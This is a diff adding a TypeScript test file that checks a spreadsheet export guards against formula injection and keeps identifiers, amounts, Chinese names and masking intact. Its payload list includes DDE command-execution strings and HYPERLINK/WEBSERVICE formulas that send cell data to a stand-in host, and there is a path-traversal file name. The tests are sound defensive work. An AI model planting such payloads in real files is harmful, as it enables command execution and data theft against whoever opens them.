@@ -1,0 +1,144 @@
+import readXlsxFile from 'read-excel-file/universal';
+import { describe, expect, it } from 'vitest';
+import type { ListColumn } from '@/ui/table/column';
+import { makeXlsx } from '@/ui/table/xlsx/make-xlsx';
+import { safeFileName, safeText } from '@/ui/table/xlsx/safe-text';
+import { sheetOf } from '@/ui/table/xlsx/sheet';
+
+interface Line {
+  xingming: string;
+  zjhm: string;
+  zh: string;
+  je: string;
+}
+
+const COLUMNS: readonly ListColumn<Line>[] = [
+  { prop: 'xingming', label: '姓名', width: 120 },
+  { prop: 'zjhm', label: '证件号码', width: 180 },
+  { prop: 'zh', label: '账号', width: 160 },
+  { prop: 'je', label: '金额', width: 120, type: 'money' },
+];
+const WORDS = { options: () => [] };
+
+/** The rows below the head, as another program reads them. */
+async function readBack(lines: readonly Line[], columns = COLUMNS): Promise<unknown[][]> {
+  const file = await makeXlsx([
+    sheetOf({ name: '职工列表', title: '职工列表', marks: ['编号 DC1'] }, columns, lines, WORDS),
+  ]);
+  const [sheet] = await readXlsxFile(await file.arrayBuffer());
+  return (sheet?.data ?? []).slice(3);
+}
+
+const line = (more: Partial<Line>): Line => ({ xingming: '王伟', zjhm: '', zh: '', je: '', ...more });
+
+/** What attackers put into names and remarks, and what merely looks like it. */
+const PAYLOADS = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.test?x="&A1,"点击")',
+  '=WEBSERVICE("https://evil.test/"&B2)',
+  '=IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  '+1+1',
+  '+86 13800000001',
+  '-1+1',
+  "-2+3+cmd|' /C calc'!D2",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u00A0=1+1',
+  '\u200B=1+1',
+  '\uFEFF=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '=',
+  '=DDE("cmd";"/C calc";"1")',
+  "=1+1'",
+  '=\u0000=1',
+  '+"',
+];
+
+describe('an exported file, read back by another library', () => {
+  it('runs nothing: each payload is a text that begins with none of the signs', async () => {
+    const rows = await readBack(PAYLOADS.map((xingming) => line({ xingming })));
+    expect(rows).toHaveLength(PAYLOADS.length);
+    for (const [index, [cell]] of rows.entries()) {
+      expect(cell, PAYLOADS[index]).toEqual(expect.stringMatching(/^'/));
+      // Nothing but the sign before it and characters no file may hold has changed.
+      expect(String(cell).slice(1).replace(/\s/g, '')).toBe((PAYLOADS[index] ?? '').replace(/\s|\p{Cc}/gu, ''));
+    }
+  });
+
+  it.each(PAYLOADS)('neutralises %j also where nothing has trimmed it', (payload) => {
+    expect(safeText(payload)).toMatch(/^'/);
+    expect(safeText(safeText(payload))).toBe(safeText(payload));
+  });
+
+  it('keeps identifiers as they are: 18 and 19 digits, X, leading zeros', async () => {
+    const ids = ['110101198503071219', '11010519920815342X', '000000000000000001', '110***********1219'];
+    const accounts = ['6222020200000101374', '0001234567', '100000000001', '6222***********1374'];
+    const rows = await readBack(ids.map((zjhm, index) => line({ zjhm, zh: accounts[index] ?? '' })));
+    expect(rows.map((row) => [row[1], row[2]])).toEqual(ids.map((id, index) => [id, accounts[index]]));
+  });
+
+  it('keeps amounts exact to the fen: as number up to 15 digits, as text beyond', async () => {
+    const amounts = ['0.00', '0.01', '-0.01', '1.005', '8.345', '122226.82', '9999999999999.99', '-3000.00', '1234.5'];
+    const rows = await readBack(amounts.map((je) => line({ je })));
+    expect(rows.map((row) => row[3])).toEqual([
+      0,
+      0.01,
+      -0.01,
+      '¥1.01',
+      '¥8.35',
+      122226.82,
+      9999999999999.99,
+      -3000,
+      1234.5,
+    ]);
+    const [[, , , most] = []] = await readBack([line({ je: '999999999999999.99' })]);
+    expect(most).toBe('¥999,999,999,999,999.99');
+  });
+
+  it('keeps Chinese, rare characters, the dot of names and quotes', async () => {
+    const names = [
+      '陈𠮷祥',
+      '阿依古丽·买买提',
+      '𬭚𫖯',
+      '“引号”与<标签>&符号',
+      "O'Neil",
+      'ABC Trading Co Ltd',
+      '第一行\n第二行',
+    ];
+    const rows = await readBack(names.map((xingming) => line({ xingming })));
+    expect(rows.map((row) => row[0])).toEqual(names);
+  });
+
+  it('masks a column that is to be masked, whatever the answer held', async () => {
+    const masked: ListColumn<Line>[] = [
+      { prop: 'xingming', label: '姓名', width: 100, mask: 'name' },
+      { prop: 'zjhm', label: '证件号码', width: 100, mask: 'id' },
+      { prop: 'zh', label: '银行卡', width: 100, mask: 'card' },
+      { prop: 'je', label: '手机', width: 100, mask: 'phone' },
+    ];
+    const plain = line({ zjhm: '110101198503071219', zh: '6222020200000101374', je: '13800000001' });
+    expect(await readBack([plain], masked)).toEqual([
+      ['王*', '110***********1219', '6222***********1374', '138****0001'],
+    ]);
+  });
+
+  it('drops what no file may hold, and cuts at what a cell holds', async () => {
+    expect(safeText('a\u0000b\u000Bc\uD800d\uFFFFe')).toBe('abcde');
+    expect(safeText('长'.repeat(40_000))).toHaveLength(32_767);
+    const [[cell] = []] = await readBack([line({ xingming: 'a\u0000b\u0008c\uD800d' })]);
+    expect(cell).toBe('abcd');
+  });
+});
+
+it('gives files names that every system takes', () => {
+  expect(safeFileName('职工列表_DC1')).toBe('职工列表_DC1');
+  expect(safeFileName('../../etc/pass\u202Ewd:<>|?*"')).toBe('etcpasswd');
+  expect(safeFileName('\u0000/')).toBe('导出');
+});
